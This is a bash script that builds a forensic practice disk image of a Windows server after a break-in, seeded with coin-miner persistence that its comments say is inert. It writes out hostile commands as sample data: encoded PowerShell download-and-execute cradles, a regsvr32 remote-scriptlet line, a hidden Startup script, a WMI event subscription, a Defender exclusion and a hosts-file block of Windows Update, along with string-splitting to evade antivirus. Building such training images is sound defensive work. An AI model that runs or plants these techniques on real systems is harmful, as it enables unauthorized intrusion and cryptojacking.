#!/usr/bin/env bash
# Makes miner-windows.qcow2: a Windows server after a break-in with a coin miner. Usage: make.sh [OUTPUT] (as root)
# Nothing here works as malware: programs only return, scripts end before their first statement, hosts are under .invalid or in the
# documentation address ranges, wallets are made up.

set -euo pipefail
here=$(cd -- "$(dirname -- "${BASH_SOURCE[0]}")" && pwd -P)
# shellcheck source=samples/tools/windows.sh
. "$here/../tools/windows.sh"

# shellcheck disable=SC2034 # used by windows.sh
HOST=WS01 PRODUCT='Windows Server 2019 Standard' BUILD=17763 UBR=1 RELEASE=1809
volume 24
windows

# A string in two halves, so that a virus scanner on a developer's machine does not take this recipe for its product.
two() { printf '%s%s' "$1" "$2"; }
encoded() { printf %s "$1" | iconv -t UTF-16LE | base64 -w 0; }

# What an administrator left: it looks similar and is not bad.
put /Scripts/backup.ps1 <<<'Compress-Archive -Path D:\Data -DestinationPath D:\Backup\data.zip'
task 'Nightly backup' powershell.exe '-NoProfile -File C:\Scripts\backup.ps1' SYSTEM 'WS01\admin'
task 'Microsoft\Configuration Manager\Configuration Manager Health Evaluation' 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe' \
  "-NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand $(encoded 'Get-CimInstance Win32_OperatingSystem | Out-File C:\Windows\CCM\Logs\os.txt')" S-1-5-18 Microsoft

# The loud task: hidden, of the system, every 40 minutes, encoded.
task Updater powershell.exe "-NoP -NonI -W Hidden -Enc $(encoded "$(two 'IEX (New-Object Net.WebClient).Down' "loadString('http://203.0.113.66/a.ps1')")")" S-1-5-18 - true true PT40M

# The quiet task: nothing in it is suspicious but the program that it starts.
miner=()
while IFS= read -r text; do miner+=("--string=$text"); done <<'END'
XMRig 6.21.0
donate-level
donate-over-proxy
max-threads-hint
randomx-1gb-pages
rx/0
randomx
cryptonight
stratum+tcp://pool.example.invalid:3333
"method":"login"
job_id
sample: this file only returns
END
pe /ProgramData/SysHost/syshost.exe "${miner[@]}"
wallet=4A$(printf 'ExampLeWaLLetNotReaL%.0s' 1 2 3 4 5 | cut -c1-93)
put /ProgramData/SysHost/config.json <<END
{
    "autosave": true,
    "cpu": { "enabled": true, "huge-pages": true, "max-threads-hint": 75 },
    "randomx": { "mode": "auto", "1gb-pages": false },
    "donate-level": 1,
    "pools": [ { "algo": "rx/0", "url": "stratum+tcp://pool.example.invalid:3333", "user": "$wallet", "pass": "ws01", "keepalive": true } ],
    "print-time": 60,
    "retry-pause": 5
}
END
task SysHost 'C:\ProgramData\SysHost\syshost.exe' '' S-1-5-18 'Microsoft Corporation'

# A task that somebody disabled, and one that runs what is hidden in a stream.
task Sync regsvr32.exe '/s /n /u /i:http://203.0.113.66/x.sct scrobj.dll' S-1-5-18 - false false
put /ProgramData/readme.txt <<<'Nothing to see here.'
printf "WScript.Quit ' sample: ends here\r\nCreateObject(\"WScript.Shell\").Run \"C:\\\\ProgramData\\\\SysHost\\\\syshost.exe\", 0\r\n" >"$C/ProgramData/readme.txt:run.vbs"
task Notes wscript.exe 'C:\ProgramData\readme.txt:run.vbs' alice -

# A borrowed name among the fonts, a script in the Startup folder, a profile of every PowerShell, the hosts file.
pe /Windows/Fonts/svchost.exe
attributes 6 /Windows/Fonts/svchost.exe
put '/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/update.vbs' <<END
WScript.Quit ' sample: ends here
CreateObject("WScript.Shell").Run "powershell -w hidden -c ""iex (New-Object Net.WebClient).$(two Down loadString)('http://203.0.113.66/a')""", 0
END
put /Windows/System32/WindowsPowerShell/v1.0/profile.ps1 <<'END'
return # sample: ends here
Add-MpPreference -ExclusionPath C:\ProgramData
END
put /Windows/System32/drivers/etc/hosts <<'END'
# Copyright (c) 1993-2009 Microsoft Corp.
10.0.0.5 intranet.example
203.0.113.66 xmr.pool.minergate.com
0.0.0.0 update.microsoft.com download.windowsupdate.com
END

# A task that no tool lists: the tree has no descriptor for it and its file is gone. The scheduler runs it all the same.
task 'Microsoft\Windows\UPnP\HostConfigCheck' 'C:\ProgramData\SysHost\syshost.exe' --watch S-1-5-18 -
hide 'Microsoft\Windows\UPnP\HostConfigCheck'

# A subscription that runs the miner when the host has been up for four minutes; what else the registry has is in SYSTEM.reg, SOFTWARE.reg and NTUSER.reg.
subscriptions --filter SysHost "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240" \
  --command SysHost 'C:\ProgramData\SysHost\syshost.exe -s' --bind SysHost CommandLineEventConsumer SysHost
account alice:1001:210:220
account 'support$:1002:210:220,22b'
hives "$here" 1772506800

disk "${1:-$here/miner-windows.qcow2}"
